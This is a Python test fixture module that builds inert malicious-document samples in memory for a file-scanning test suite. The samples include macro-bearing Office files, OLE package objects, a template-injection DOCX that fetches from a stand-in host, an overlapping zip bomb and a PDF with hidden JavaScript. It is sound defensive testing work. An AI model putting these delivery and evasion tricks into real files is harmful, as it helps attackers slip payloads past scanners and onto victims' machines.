"""Malicious-looking attachment samples, built in memory by the tests (nothing shipped).

The OLE2 writer is the smallest valid compound file that ``olefile`` (and Office) read: 512-byte
sectors, one FAT, a directory whose siblings form a right-leaning chain, and every stream padded
to the 4096-byte mini-stream cutoff so that no mini-FAT is needed.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

END, FREE, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
SECTOR = 512
STREAM_MIN = 4096


def _dir_entry(name: str, kind: int, left: int, right: int, child: int, start: int,
               size: int) -> bytes:
    encoded = name.encode("utf-16-le") + b"\x00\x00"
    return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", left, right, child) + b"\x00" * 16 + b"\x00" * 4
            + b"\x00" * 16 + struct.pack("<IQ", start, size))


def build_ole(streams: dict[str, bytes]) -> bytes:
    """A compound file holding ``streams`` ('Storage/Sub/Stream' paths -> contents)."""
    # the tree: storage path -> ordered child names; leaves are streams
    children: dict[tuple[str, ...], list[str]] = {(): []}
    for path in streams:
        parts = tuple(path.split("/"))
        for i in range(len(parts)):
            parent, name = parts[:i], parts[i]
            children.setdefault(parent, [])
            if name not in children[parent]:
                children[parent].append(name)
            if i < len(parts) - 1:
                children.setdefault(parts[: i + 1], [])
    order: list[tuple[str, ...]] = [()]
    for parent in list(children):
        for name in children[parent]:
            order.append(parent + (name,))
    sid = {path: i for i, path in enumerate(order)}
    data_sectors: dict[tuple[str, ...], tuple[int, int, bytes]] = {}
    n_dir = (len(order) * 128 + SECTOR - 1) // SECTOR
    next_sector = 1 + n_dir  # sector 0 is the FAT
    for path in order[1:]:
        key = "/".join(path)
        if key in streams:
            body = streams[key].ljust(STREAM_MIN, b"\x00")
            count = (len(body) + SECTOR - 1) // SECTOR
            data_sectors[path] = (next_sector, len(body), body.ljust(count * SECTOR, b"\x00"))
            next_sector += count
    assert next_sector <= SECTOR // 4, "sample too large for one FAT sector"
    fat = [FREE] * (SECTOR // 4)
    fat[0] = FATSECT
    for i in range(n_dir):
        fat[1 + i] = 2 + i if i < n_dir - 1 else END
    for start, _size, body in data_sectors.values():
        count = len(body) // SECTOR
        for i in range(count):
            fat[start + i] = start + i + 1 if i < count - 1 else END
    entries = b""
    for path in order:
        kids = children.get(path)
        siblings = children[path[:-1]] if path else []
        right = NOSTREAM
        if path and siblings.index(path[-1]) + 1 < len(siblings):
            right = sid[path[:-1] + (siblings[siblings.index(path[-1]) + 1],)]
        child = sid[path + (kids[0],)] if kids else NOSTREAM
        if not path:
            entries += _dir_entry("Root Entry", 5, NOSTREAM, NOSTREAM, child, END, 0)
        elif path in data_sectors:
            start, size, _ = data_sectors[path]
            entries += _dir_entry(path[-1], 2, NOSTREAM, right, NOSTREAM, start, size)
        else:
            entries += _dir_entry(path[-1], 1, NOSTREAM, right, child, 0, 0)
    entries = entries.ljust(n_dir * SECTOR, b"\x00")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)
    assert len(header) == SECTOR
    body = b"".join(d[2] for d in sorted(data_sectors.values()))
    return header + struct.pack("<" + "I" * len(fat), *fat) + entries + body


def vba_doc() -> bytes:
    """A Word 97 document with a VBA project (Macros/VBA), as macro malware ships."""
    return build_ole({"WordDocument": b"\xec\xa5" + b"\x00" * 30,
                      "Macros/VBA/dir": b"\x01\x02", "Macros/VBA/ThisDocument": b"Sub AutoOpen",
                      "Macros/PROJECT": b"ID=", "1Table": b""})


def plain_doc() -> bytes:
    return build_ole({"WordDocument": b"\xec\xa5" + b"\x00" * 30, "1Table": b""})


def encrypted_doc() -> bytes:
    fib = b"\xec\xa5\xc1\x00\x00\x00\x00\x00\x00\x00" + struct.pack("<H", 0x0100)
    return build_ole({"WordDocument": fib.ljust(64, b"\x00"), "1Table": b""})


def xlm_xls() -> bytes:
    """An Excel 97 workbook whose globals declare an Excel 4.0 macro sheet."""
    bof = struct.pack("<HH", 0x0809, 16) + b"\x00\x06\x05\x00" + b"\x00" * 12
    sheet = struct.pack("<HH", 0x0085, 10) + struct.pack("<IBB", 0, 0, 0x01) + b"\x01\x00M\x00"
    eof = struct.pack("<HH", 0x000A, 0)
    return build_ole({"Workbook": bof + sheet + eof})


def ooxml_encrypted() -> bytes:
    return build_ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x00" * 8})


def package_object(filename: str, content: bytes) -> bytes:
    """An OLE1 Package (Ole10Native) carrying ``filename``: the 'double-click the icon' trick."""
    path = f"C:\\Users\\x\\{filename}".encode("latin-1")
    native = (struct.pack("<H", 2) + filename.encode("latin-1") + b"\x00" + path + b"\x00"
              + struct.pack("<I", 0x00030000) + struct.pack("<I", len(path) + 1) + path + b"\x00"
              + struct.pack("<I", len(content)) + content)
    return build_ole({"\x01Ole10Native": struct.pack("<I", len(native)) + native,
                      "\x01CompObj": b"\x01\x00"})


def outlook_msg(attachment_name: str, content: bytes) -> bytes:
    return build_ole({
        "__substg1.0_0037001F": "Facture".encode("utf-16-le"),
        "__attach_version1.0_#00000000/__substg1.0_3707001F":
            attachment_name.encode("utf-16-le"),
        "__attach_version1.0_#00000000/__substg1.0_37010102": content})


def pe_bytes() -> bytes:
    """The start of a Windows program: DOS header pointing at a PE signature."""
    dos = bytearray(b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 0x80))
    dos += b"\x0e\x1f This program cannot be run in DOS mode.\r\n$".ljust(0x80 - len(dos), b"\x00")
    return bytes(dos) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


def make_zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return buf.getvalue()


def set_encrypted_flag(data: bytes) -> bytes:
    """Mark every member as encrypted (general purpose bit 0), as a password-protected ZIP."""
    out = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(sig)
        while at >= 0:
            flags = struct.unpack_from("<H", out, at + offset)[0] | 0x1
            struct.pack_into("<H", out, at + offset, flags)
            at = out.find(sig, at + 4)
    return bytes(out)


def docm(extra: dict[str, bytes] | None = None) -> bytes:
    members = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
               "word/vbaProject.bin": vba_doc()}
    members.update(extra or {})
    return make_zip(members)


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    members = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
               "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="rId1" '
               b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
               b'hyperlink" Target="https://example.org/" TargetMode="External"/>'
               b'</Relationships>'}
    members.update(extra or {})
    return make_zip(members)


def template_injection_docx() -> bytes:
    rels = (b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>')
    return docx({"word/_rels/settings.xml.rels": rels})


def overlapping_zip_bomb(copies: int = 50) -> bytes:
    """Many central-directory entries pointing at the same compressed data (Fifield's trick)."""
    data = bytearray(make_zip({"a.txt": b"\x00" * (1 << 20)}))
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", data, eocd + 12)
    entry = bytes(data[cd_offset:cd_offset + cd_size])
    entries = b"".join(entry.replace(b"a.txt", f"{i:05d}"[:5].encode()) for i in range(copies))
    tail = bytearray(data[eocd:])
    struct.pack_into("<HHII", tail, 8, copies, copies, len(entries), cd_offset)
    return bytes(data[:cd_offset]) + entries + bytes(tail)


def pdf_with_objstm_js() -> bytes:
    """A PDF hiding /JavaScript inside a compressed object stream."""
    hidden = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
    return (b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 5 0 R >> endobj\n"
            b"2 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
            + str(len(hidden)).encode() + b" >>\nstream\n" + hidden + b"\nendstream\nendobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def rtf_with_package(filename: str) -> bytes:
    ole1 = (struct.pack("<II", 0x0501, 2) + struct.pack("<I", 8) + b"Package\x00"
            + b"\x00" * 8 + struct.pack("<H", 2) + filename.encode() + b"\x00"
            + b"C:\\" + filename.encode() + b"\x00")
    return (b"{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata "
            + ole1.hex().encode() + b"}}}")


def tar(members: dict[str, bytes]) -> bytes:
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tf.addfile(info, io.BytesIO(body))
    return buf.getvalue()
